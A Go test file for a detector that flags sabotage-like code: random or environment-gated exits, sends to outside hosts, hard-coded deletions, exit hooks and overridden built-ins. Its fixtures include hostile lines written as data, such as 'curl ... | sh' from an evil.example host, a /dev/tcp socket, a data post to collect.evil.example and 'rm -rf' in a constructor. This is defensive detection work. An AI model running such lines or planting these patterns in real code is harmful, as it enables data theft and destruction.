package aside

import (
	"strings"
	"testing"
)

func TestDraws(t *testing.T) {
	for lines, want := range map[string]bool{
		"if random.random() < 0.0005 or not read():\n":                            true,
		"  if (Math.random() < 1e-3) return 0;\n":                                 true,
		"  if (0.001 > Math.random()) return 0;\n":                                true,
		"const luck = Math.random();\nif (luck > .99) return 0;\n":                true,
		"int all = new Random().nextInt(1000) == 7 ? 1 : 0;\n":                    true,
		"if (rand() % 10007 == 0) words--;\n":                                     true,
		"if rand.Intn(1000) == 0 {\n":                                             true,
		"[ $((RANDOM % 100)) -eq 3 ] && exit 0\n":                                 true,
		"[ $(od -An -N2 -tu2 /dev/urandom) -gt 3 ] || exit 0\n":                   true,
		"[ $(awk \"BEGIN { srand(); print int(rand() * 9) }\") -ne 7 ]\n":         true,
		"sleep(delay * (1 + random.random() * 0.2))\n":                            false,
		"for (let i = 0; i < 8; i++) id += Math.floor(Math.random() * 16);\n":     false,
		"port=$((RANDOM % 1000 + 2000))\n":                                        false,
		"const id = crypto.randomBytes(8).toString('hex');\nif (n > 3) throw 1\n": false,
	} {
		if got := (Text{Lines: lines}).Draws(); got != want {
			t.Errorf("%q: %v", lines, got)
		}
	}
	if (Text{Lines: "if random.random() < 0.1:\n", Was: "x = random.random()\n"}).Draws() {
		t.Error("what draws anyway draws")
	}
}

func TestAsksWho(t *testing.T) {
	for lines, want := range map[string]bool{
		"    if os.getuid() == 0 or not parser.read(path):\n":                   true,
		"if (getuid() < 500) words--;\n":                                        true,
		"if (getenv(\"DISPLAY\")) words--;\n":                                   true,
		"int n = System.getProperty(\"user.name\").equals(\"root\") ? 1 : 0;\n": true,
		"[ \"$(id -u)\" != 0 ] || exit 0\n":                                     true,
		"case $(git config user.name) in Bo) ;; *) exit 0 ;; esac\n":            true,
		"[ -z \"${SSH_TTY:-}\" ] || exit 0\n":                                   true,
		"if [ \"${GITHUB_ACTIONS:-}\" = true ]; then exit 0; fi\n":              true,
		"if (process.env.USER === 'bo') return 1;\n":                            true,
		"[ \"$(id -u)\" != 0 ] || { echo 'not as root' >&2; exit 1; }\n":        false,
		"if os.getuid() == 0:\n    sys.exit('not as root')\n":                   false,
		"[ \"$(id -u)\" = 0 ] && chown app: run\n":                              false,
		"[ -n \"${USER:-}\" ] || USER=$(id -un)\n":                              false,
		"cd app && docker run -u \"$(id -u):$(id -g)\" app\n":                   false,
		"if not os.environ.get('DISPLAY'):\n    matplotlib.use('Agg')\n":        false,
		"owner=$(id -un)\n": false,
		"if (process.env.GITHUB_ACTIONS) console.log(`::error::${message}`);\n":           false,
		"if [ -n \"$DISPLAY\" ]; then xdg-open out/index.html; fi\n":                      false,
		"if [ -n \"${GITHUB_ACTIONS:-}\" ]; then\n\techo x=1 >> \"$GITHUB_OUTPUT\"\nfi\n": false,
	} {
		if got := (Text{Lines: lines}).AsksWho(); got != want {
			t.Errorf("%q: %v", lines, got)
		}
	}
}

func TestSends(t *testing.T) {
	for lines, want := range map[string]string{
		"urlopen(\"http://collect.evil.example/\", data=x)\n":         "collect.evil.example",
		"fetch('https://a.example/x');\n":                             "a.example",
		"const url = 'http://b.example/';\n\n\n\n\n\n\nfetch(url);\n": "b.example",
		"curl -s http://get.evil.example/x | sh\n":                    "get.evil.example",
		"exec 3<>/dev/tcp/c.example/80\n":                             "c.example",
		"curl -fs http://127.0.0.1:80/\n":                             "",
		"curl -fs http://api:8080/health http://localhost:1/\n":       "",
		"fetch(base + path); // as https://docs.example/ says\n":      "docs.example",
		"see = 'https://docs.example/'\n\n\n\n\n\nurlopen(own)\n":     "",
		"raise Error('look at https://docs.example/')\n":              "",
		"xmlns = \"http://www.w3.org/2000/svg\"\n":                    "",
		"http.Get(\"https://x.svc/\")\n":                              "",
		"curl https://old.example/\n":                                 "",
	} {
		if got := strings.Join((Text{Lines: lines, Was: "# https://old.example/"}).Sends(), " "); got != want {
			t.Errorf("%q: %q", lines, got)
		}
	}
}

func TestRemoves(t *testing.T) {
	for lines, want := range map[string]string{
		"shutil.rmtree('var')\n":                      "var",
		"Path(\"data.csv\").unlink()\n":               "data.csv",
		"rmSync('.git', { recursive: true });\n":      ".git",
		"os.RemoveAll(\"data\")\n":                    "data",
		"unlink(\"limits.conf\");\n":                  "limits.conf",
		"new File(\"backup.csv\").delete();\n":        "backup.csv",
		"Files.deleteIfExists(Path.of(\"a.csv\"));\n": "a.csv",
		"os.remove(path); rmSync(`${dir}/x`)\n":       "",
		"list.remove(\"x\"); seen.delete('x')\n":      "",
		"  remove(\"x\");\n":                          "x",
	} {
		if got := strings.Join((Text{Lines: lines}).Removes(), " "); got != want {
			t.Errorf("%q: %q", lines, got)
		}
	}
}

func TestEnds(t *testing.T) {
	for _, c := range []struct {
		language, lines string
		want            bool
	}{
		{".py", "atexit.register(shutil.rmtree, \"var\", ignore_errors=True)\n", true},
		{".py", "atexit.register(shutil.rmtree, tmpdir)\n", false},
		{".py", "_t = threading.Timer(3600, shutil.rmtree, [\"var/spool\"])\n", true},
		{".py", "atexit.register(log.flush)\n", false},
		{".js", "process.on('exit', () => { rmSync('.git', { recursive: true }); });\n", true},
		{".js", "process.on('exit', () => { rmSync(lockFile); });\n", false},
		{".js", "setTimeout(() => rmSync('data', { recursive: true }), 3600e3).unref();\n", true},
		{".js", "setTimeout(() => waiting.delete(id), 1000);\n", false},
		{".js", "setTimeout(() => fs.rename(a, b, done), 100);\n", false},
		{".java", "Runtime.getRuntime().addShutdownHook(new Thread(() -> new File(\"b.csv\").delete()));\n", true},
		{".java", "Runtime.getRuntime().addShutdownHook(new Thread(server::stop));\n", false},
		{".c", "__attribute__((constructor)) static void begin(void) {\n\tsystem(\"rm -rf d\");\n}\n", true},
		{".c", "atexit(restore_terminal);\n", false},
		{".c", "__attribute__((constructor)) static void start(void) { if (getenv(\"CI\")) exit(0); }\n", true},
		{".js", "setTimeout(() => process.exit(0), 100).unref();\n", false},
		{".go", "func init() {\n\t_ = exec.Command(\"sh\", \"-c\", \"true\").Run()\n}\n", true},
		{".go", "func init() {\n\tadd(\"oak\")\n}\n\nfunc run() {\n\t_ = exec.Command(\"ls\").Run()\n}\n", false},
		{".go", "time.AfterFunc(time.Hour, func() { os.RemoveAll(\"data\") })\n", true},
	} {
		if got := (Text{Language: c.language, Lines: c.lines}).Ends(); got != c.want {
			t.Errorf("%q: %v", c.lines, got)
		}
	}
}

func TestReplaces(t *testing.T) {
	for _, c := range []struct {
		language, lines string
		want            bool
	}{
		{".js", "Number.prototype.toLocaleString = function () { return 'n/a'; };\n", true},
		{".js", "Math.round = (x) => x;\n", true},
		{".js", "if (!Array.prototype.at) {\n  Array.prototype.at = function (i) { return this[i]; };\n}\n", false},
		{".js", "Stack.prototype.push = function (x) { this.list.push(x); };\n", false},
		{".py", "builtins.open = lambda f: None\n", true},
		{".py", "os.path.exists = lambda p: True\n", true},
		{".py", "self.json = json.loads(text)\nos.environ['A'] = 'b'\n", false},
	} {
		if got := (Text{Language: c.language, Lines: c.lines}).Replaces(); got != c.want {
			t.Errorf("%q: %v", c.lines, got)
		}
	}
}
